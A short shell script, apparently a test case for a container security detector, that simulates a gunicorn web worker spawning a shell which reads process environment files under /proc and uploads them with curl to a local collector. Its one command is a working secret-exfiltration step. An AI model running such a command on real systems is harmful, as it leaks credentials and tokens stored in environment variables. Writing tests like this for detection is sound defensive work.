#!/bin/sh
# malicious: a web worker shell reads the process environments (secrets in env) and sends them out (gunicorn -> sh -c cat /proc/*/environ | curl)
# container
. "$(dirname "$0")/../../lib.sh"
ctr_app gunicorn "cat /proc/1/environ /proc/self/environ | tr '\\0' '\\n' | curl -sf -T - http://127.0.0.1:8000/e -o /dev/null"
